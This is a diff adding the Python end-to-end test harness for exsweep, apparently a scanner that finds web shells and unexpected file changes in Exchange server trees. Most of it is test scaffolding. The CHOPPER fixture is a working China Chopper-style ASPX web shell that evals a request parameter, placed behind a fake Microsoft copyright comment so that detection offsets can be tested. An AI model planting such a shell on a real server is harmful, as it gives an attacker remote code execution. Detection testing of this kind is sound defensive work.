@@ -1,0 +1,299 @@
+"""lib.py -- the shared harness of exsweep's end-to-end tests.
+
+Each tNNNN-*.py script registers test functions with @tests.case; every test
+gets a fresh temporary folder (an Env) holding a tree to scan, the web root
+inside it, a state folder for the baseline and a config file naming them. Env.run
+starts the real binary with --config and --json, checks the exit status against
+the report, and returns both. A failed check raises Failure with what was
+expected, what came back and the stderr of the last run. The script prints one
+line per test and "N passed, N failed" at the end, and exits 1 on any failure
+(77, meson's "skipped", when every test was skipped).
+
+Environment: E2E_ONLY=SUBSTRING runs only matching tests; E2E_KEEP=1 keeps the
+temporary folders of failed tests.
+"""
+
+import base64
+import hashlib
+import json
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+import time
+import traceback
+
+# Files of a test tree get this modification time (2024-05-01T12:00:00.123456789Z)
+# so that a later edit always moves mtime, whatever the file system's clock tick.
+OLD_MTIME_NS = 1714564800123456789
+
+KIND_ORDER = ["webshell", "changed", "added", "removed", "error"]
+EXIT_BITS = {"added": 1, "removed": 2, "changed": 4, "webshell": 8}
+
+# A China Chopper-style one-liner, after a benign prefix so that a match offset
+# of 0 (or any offset inside the prefix) is wrong.
+CHOPPER_PREFIX = (b'<!-- Copyright (c) Microsoft Corporation. All rights reserved. -->\r\n'
+                  b'<!-- Outlook Web App authentication helper page -->\r\n')
+CHOPPER = (b'<%@ Page Language="Jscript" Debug=false%>'
+           b'<%eval(Request.Item["z9kq2"],"unsafe");%>\r\n')
+
+
+class Failure(AssertionError):
+    pass
+
+
+class Skip(Exception):
+    pass
+
+
+def check(cond, message):
+    if not cond:
+        raise Failure(message)
+
+
+def eq(actual, expected, what):
+    if actual != expected:
+        raise Failure(f"{what}: expected {expected!r}, got {actual!r}")
+
+
+def sha256_hex(data):
+    return hashlib.sha256(data).hexdigest()
+
+
+def path_bytes(finding):
+    """The exact bytes of a finding's path, as the README says to recover them."""
+    if "path_b64" in finding:
+        return base64.b64decode(finding["path_b64"], validate=True)
+    return finding["path"].encode("utf-8")
+
+
+def by_kind(report, kind):
+    """{path bytes: finding} of one kind."""
+    return {path_bytes(f): f for f in report["findings"] if f["kind"] == kind}
+
+
+def kinds_by_path(report):
+    out = {}
+    for f in report["findings"]:
+        out.setdefault(path_bytes(f), set()).add(f["kind"])
+    return out
+
+
+def skipped_by_path(report):
+    return {path_bytes(s): s["node"] for s in report.get("skipped", [])}
+
+
+def fs(path):
+    """A path (str or bytes) as bytes, the way the report gives it."""
+    return os.fsencode(path)
+
+
+def benign_aspx(title):
+    return ('<%@ Page Language="C#" AutoEventWireup="false" '
+            f'Inherits="Microsoft.Exchange.HttpProxy.{title}" %>\r\n'
+            f'<!DOCTYPE html>\r\n<html><head><title>{title}</title></head>\r\n'
+            '<body><form method="post" action="logon.aspx"><input type="submit" value="Sign in" />'
+            '</form></body></html>\r\n').encode()
+
+
+def benign_config(n):
+    return ('<?xml version="1.0" encoding="utf-8"?>\r\n<configuration>\r\n  <appSettings>\r\n'
+            f'    <add key="LogLevel{n}" value="Medium" />\r\n  </appSettings>\r\n'
+            '</configuration>\r\n').encode()
+
+
+def benign_js(n):
+    return (f'/* owa.{n}.js */\r\n(function (owa) {{ owa.f{n} = function (x) '
+            '{ return JSON.parse(x); }; })(window.owa = window.owa || {});\r\n').encode()
+
+
+class Result:
+    def __init__(self, argv, rc, out, err, report):
+        self.argv, self.rc, self.out, self.err, self.report = argv, rc, out, err, report
+
+    def describe(self):
+        err = self.err.decode("utf-8", "replace")
+        if len(err) > 3000:
+            err = err[:3000] + "\n[...]"
+        return f"  ran: {' '.join(map(str, self.argv))}\n  exit: {self.rc}\n  stderr: {err.rstrip()}"
+
+
+class Env:
+    """One test's temporary world: DIR/tree (root), DIR/tree/web (web root),
+    DIR/state/baseline.db, DIR/exsweep.ini, DIR/report.json."""
+
+    def __init__(self, exe, name, extra_exes):
+        self.exe = exe
+        self.extra_exes = extra_exes
+        self.dir = tempfile.mkdtemp(prefix=f"exs-{name[:24]}-")
+        self.tree = os.path.join(self.dir, "tree")
+        self.web = os.path.join(self.tree, "web")
+        self.state = os.path.join(self.dir, "state")
+        self.baseline = os.path.join(self.state, "baseline.db")
+        self.config = os.path.join(self.dir, "exsweep.ini")
+        self.report_path = os.path.join(self.dir, "report.json")
+        self.last = None
+        for d in (self.tree, self.web, self.state):
+            os.makedirs(d, exist_ok=True)
+        self.write_config()
+
+    def path(self, rel):
+        """Absolute path of rel (str or bytes) inside the tree, as bytes."""
+        return os.path.join(fs(self.tree), fs(rel))
+
+    def write(self, rel, data, mtime_ns=OLD_MTIME_NS):
+        """Writes data at tree/rel, creating folders; returns the path as bytes."""
+        full = self.path(rel)
+        os.makedirs(os.path.dirname(full), exist_ok=True)
+        with open(full, "wb") as f:
+            f.write(data)
+        if mtime_ns is not None:
+            os.utime(full, ns=(mtime_ns, mtime_ns))
+        return full
+
+    def populate(self, count=12):
+        """A small benign tree: some Exchange-looking files inside and outside the web root."""
+        for i in range(count):
+            self.write(f"Bin/Microsoft.Exchange.Part{i}.dll",
+                       b"MZ\x90\x00" + hashlib.sha256(b"%d" % i).digest() * (8 + i))
+            self.write(f"web/owa/auth/page{i}.aspx", benign_aspx(f"Page{i}"))
+            self.write(f"web/owa/scripts/owa.{i}.js", benign_js(i))
+        self.write("web/web.config", benign_config(0))
+        self.write("web/owa/web.config", benign_config(1))
+
+    def write_config(self, roots=None, web_roots=None, baseline=None, text=None):
+        """Writes the config file; text replaces the whole file when given."""
+        if text is None:
+            roots = [self.tree] if roots is None else roots
+            web_roots = [self.web] if web_roots is None else web_roots
+            lines = ["; exsweep end-to-end test", "[scan]"]
+            lines += [f"root = {r}" for r in roots]
+            lines += [f"web_root = {w}" for w in web_roots]
+            lines += ["", "[baseline]", f"path = {baseline or self.baseline}", ""]
+            text = "\n".join(lines)
+        with open(self.config, "w", encoding="utf-8") as f:
+            f.write(text)
+
+    def run(self, command, *args, json_report=True, timeout=120, exe=None, env=None,
+            prefix=(), expect_rc=None):
+        """Runs `exsweep --config CFG [--json REPORT] COMMAND ARGS...`; returns a
+        Result whose report (when asked for) has been checked against the exit
+        status. prefix goes before the binary (setpriv ...)."""
+        exe = exe or self.exe
+        argv = list(prefix) + [exe, "--config", self.config]
+        if json_report:
+            if os.path.exists(self.report_path):
+                os.unlink(self.report_path)
+            argv += ["--json", self.report_path]
+        argv += [command] + list(args)
+        run_env = {k: v for k, v in os.environ.items() if k != "EXSWEEP_FAULTS"}
+        run_env.update(env or {})
+        started = time.monotonic()
+        try:
+            p = subprocess.run(argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+                               stderr=subprocess.PIPE, timeout=timeout, env=run_env)
+        except subprocess.TimeoutExpired as e:
+            self.last = Result(argv, "timeout", e.stdout or b"", e.stderr or b"", None)
+            raise Failure(f"exsweep did not finish within {timeout} s")
+        self.last = Result(argv, p.returncode, p.stdout, p.stderr, None)
+        self.last.seconds = time.monotonic() - started
+        check(p.returncode >= 0, f"exsweep was killed by signal {-p.returncode}")
+        if expect_rc is not None:
+            eq(p.returncode, expect_rc, "exit status")
+        if json_report and p.returncode < 16:
+            self.last.report = load_report(self.report_path)
+            validate_report(self.last.report, p.returncode, command.lstrip("-"))
+        return self.last
+
+
+def load_report(path):
+    check(os.path.exists(path), f"no JSON report was written at {path}")
+    with open(path, "rb") as f:
+        raw = f.read()
+    try:
+        text = raw.decode("utf-8")
+    except UnicodeDecodeError as e:
+        raise Failure(f"the report is not valid UTF-8: {e}")
+    try:
+        return json.loads(text)
+    except ValueError as e:
+        raise Failure(f"the report is not valid JSON: {e}")
+
+
+def validate_report(report, rc, command):
+    """What every report must satisfy: schema, exit status, counts and order."""
+    eq(report.get("schema"), "exsweep-report/1", "report schema")
+    eq(report.get("command"), command, "report command")
+    eq(report.get("exit_code"), rc, "report exit_code vs process exit status")
+    findings = report.get("findings")
+    check(isinstance(findings, list), "report has no findings array")
+    counts = report.get("counts", {})
+    for kind in KIND_ORDER:
+        n = sum(1 for f in findings if f.get("kind") == kind)
+        eq(counts.get(kind), n, f"counts.{kind} vs {kind} findings")
+    eq(counts.get("skipped"), len(report.get("skipped", [])), "counts.skipped vs skipped array")
+    keys = []
+    for f in findings:
+        check(f.get("kind") in KIND_ORDER, f"unknown finding kind {f.get('kind')!r}")
+        check(isinstance(f.get("path"), str), f"finding without a path: {f!r}")
+        keys.append((KIND_ORDER.index(f["kind"]), path_bytes(f)))
+    eq(keys, sorted(keys), "finding order (webshell, changed, added, removed, error; "
+       "then by path bytes)")
+    expected_rc = 0
+    for kind, bit in EXIT_BITS.items():
+        if any(f["kind"] == kind for f in findings):
+            expected_rc |= bit
+    eq(rc, expected_rc, "exit status vs the kinds of findings")
+
+
+class Tests:
+    """The test list of one script, and its runner."""
+
+    def __init__(self):
+        self.cases = []
+
+    def case(self, fn):
+        self.cases.append(fn)
+        return fn
+
+    def main(self, argv):
+        if len(argv) < 2:
+            print(f"usage: {argv[0]} EXSWEEP [EXTRA-EXE...]", file=sys.stderr)
+            return 2
+        exe, extra = os.path.abspath(argv[1]), [os.path.abspath(a) for a in argv[2:]]
+        only = os.environ.get("E2E_ONLY", "")
+        passed = failed = skipped = 0
+        for fn in self.cases:
+            name = fn.__name__
+            if only and only not in name:
+                continue
+            env = Env(exe, name, extra)
+            keep = False
+            try:
+                fn(env)
+                print(f"ok   {name}")
+                passed += 1
+            except Skip as e:
+                print(f"skip {name}: {e}")
+                skipped += 1
+            except Exception as e:  # Failure, or a bug the test tripped on
+                failed += 1
+                keep = os.environ.get("E2E_KEEP") == "1"
+                print(f"FAIL {name}: {e}")
+                if not isinstance(e, Failure):
+                    traceback.print_exc(file=sys.stdout)
+                if env.last is not None:
+                    print(env.last.describe())
+                if keep:
+                    print(f"  kept: {env.dir}")
+            finally:
+                if not keep:
+                    shutil.rmtree(env.dir, ignore_errors=True)
+            sys.stdout.flush()
+        if skipped:
+            print(f"({skipped} skipped)")
+        print(f"{passed} passed, {failed} failed")
+        if failed:
+            return 1
+        return 77 if skipped and not passed else 0
